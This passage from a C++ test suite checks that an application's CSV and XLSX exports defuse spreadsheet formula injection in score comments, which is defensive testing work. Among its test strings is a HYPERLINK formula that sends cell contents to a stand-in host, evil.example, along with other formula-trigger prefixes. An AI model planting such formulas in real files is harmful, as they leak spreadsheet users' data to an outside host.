        RB_REQUIRE_OK(o.db->exec("UPDATE score SET comment = ?1 WHERE assignment_id IN (SELECT s.id FROM assignment s "
                                 "JOIN application a ON a.id = s.application_id WHERE a.code = ?2)",
                                 payloads[i], appCodes[i]));
    }
    const exporting::Table scores = build(o, exporting::What::Scores);
    const int scoreColumn = scores.column(u"得分"_s);
    REQUIRE(scoreColumn >= 0);

    for (const QString& what : {u"applications"_s, u"scores"_s}) {
        INFO(what.toStdString());
        const QString csv = dir.path(what + u".csv"_s);
        exportCli(path, what, csv, {u"--format"_s, u"csv"_s});
        const QString text = QString::fromUtf8(test::fileBytes(csv));
        CHECK(text.contains(u",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\","_s));
        CHECK(text.contains(u",'+1,"_s));
        CHECK(text.contains(u",'-2+3,"_s));
        CHECK(text.contains(u",'@SUM(A1)"_s));
        CHECK(text.contains(u",'\t=1"_s));
        CHECK(text.contains(u",\"'\r=1\""_s));
        Result<io::Table> read = io::readTable(csv);
        RB_REQUIRE_OK(read);
        for (const io::TableRow& row : read->rows) {
            for (const QString& cell : row.cells) {
                if (payloads.contains(cell))
                    FAIL("a formula cell reached the CSV as it is: " << cell.toStdString());
            }
        }
        if (what == u"scores"_s) {
            // Scores stay numbers: written as the number, without an apostrophe or quotes.
            REQUIRE(read->rows.size() == scores.rows.size());
            for (qsizetype r = 0; r < read->rows.size(); ++r)
                REQUIRE(read->rows[r].cell(scoreColumn) == io::csvCell(scores.rows[r][scoreColumn]));
        }

        const QString xlsx = dir.path(what + u".xlsx"_s);
        exportCli(path, what, xlsx, {u"--format"_s, u"xlsx"_s});
        const QByteArray sheet = zipEntry(xlsx, u"xl/worksheets/sheet1.xml"_s);
        CHECK_FALSE(sheet.contains("<f>"));
        CHECK_FALSE(sheet.contains("<f "));
        const exporting::Table table = build(o, *exporting::whatFromKey(what));
        requireSameTypes(table, xlsx);
        Result<io::Table> workbook = io::readTable(xlsx);
        RB_REQUIRE_OK(workbook);
        // The workbook holds the text exactly as typed: a string cell is never run as a formula.
        requireSameText(readText(*workbook, table.columns.size()), expectedText(table));
    }
}
